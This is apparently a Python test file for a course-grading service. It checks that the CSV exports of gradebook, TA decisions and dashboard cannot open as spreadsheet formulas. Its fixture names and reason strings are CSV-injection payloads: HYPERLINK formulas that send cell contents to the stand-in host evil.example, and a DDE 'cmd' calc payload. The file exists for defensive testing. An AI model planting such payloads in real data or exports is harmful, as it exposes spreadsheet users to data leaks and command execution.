"""The three CSV exports (the gradebook, the TA decisions, the dashboard) open without a formula in a
spreadsheet of any locale: split at `,`, at `;` (where the decimal mark is a comma), at tabs, or
with no quotes taken at all (tests/unit/test_spreadsheet_safe.py's readers). A student's name and
a TA's reason are their own words, and `x;=1+1` has no comma for the CSV writer to quote: a
`;`-separated reading started a cell at its `=`."""
from __future__ import annotations

import csv
import io

from service.dashboard.export import to_csv
from service.dashboard.queries import Dashboard, DiagnosisRow
from tests.api.support import cheap_body, wait_final
from tests.unit.test_spreadsheet_safe import formula_cells

NAMES = ["Zhang;=HYPERLINK(\"https://evil.example/?\"&A2;\"open\")", "Li\t@SUM(A1:A9)",
         "Wang; \"+1+cmd|' /C calc'!A0\"", "Chen\r\n-2+3;x", "Zhao,=1+1"]
REASON = "re-read the answer; =HYPERLINK(\"https://evil.example\")\t-1 for the mask"


def submit(client, **fields) -> str:
    response = client.post("/v1/submissions", json={**cheap_body(), **fields})
    assert response.status_code == 202, response.text
    return response.json()["id"]


def unquoted(text: str) -> str:
    return text.replace("'", "")


def test_no_export_opens_as_a_formula_at_any_separator(course):
    client = course.client()
    ids = [submit(client, assignment="hw-sep", student={"id": f"sep{n}", "name": name}) for n, name in enumerate(NAMES)]
    for submission_id in ids:
        wait_final(client, submission_id)

    gradebook = client.get("/v1/grades", params={"format": "csv", "assignment": "hw-sep"})
    assert gradebook.status_code == 200
    names = {row["student_id"]: row["student_name"] for row in csv.DictReader(io.StringIO(gradebook.text))}
    assert {k: unquoted(v) for k, v in names.items()} == {f"sep{n}": unquoted(name) for n, name in enumerate(NAMES)}
    assert formula_cells(gradebook.text) == [], "the gradebook"

    decided = client.post(f"/v1/submissions/{ids[0]}/decisions", json={"item": "q1", "points": 0, "reason": REASON})
    assert decided.status_code == 201, decided.text
    decisions = client.get("/review/export.csv", params={"course": course.id})
    assert decisions.status_code == 200 and decisions.headers["content-type"].startswith("text/csv")
    (row,) = [r for r in csv.DictReader(io.StringIO(decisions.text)) if r["submission_id"] == ids[0]]
    assert unquoted(row["reason"]) == unquoted(REASON)
    assert formula_cells(decisions.text) == [], "the TA decisions"

    response = client.get("/v1/dashboard", params={"assignment": "hw-sep", "format": "csv"})
    assert response.status_code == 200 and formula_cells(response.text) == [], "the dashboard"
    # The dashboard's words are the exercises' (a diagnosis's message, a concept's label), a
    # third-party exercise's among them: the same cells through the same export.
    board = Dashboard.model_validate(client.get("/v1/dashboard", params={"assignment": "hw-sep"}).json())
    board.diagnoses.append(DiagnosisRow(id="mask;=1", message="mask wrong; =HYPERLINK(\"x\")\t+1", students=1,
                                        submissions=1, students_latest=1, examples=[ids[0]]))
    text = to_csv(board)
    assert "mask wrong;' =HYPERLINK" in text and formula_cells(text) == [], "the dashboard, with an exercise's words"
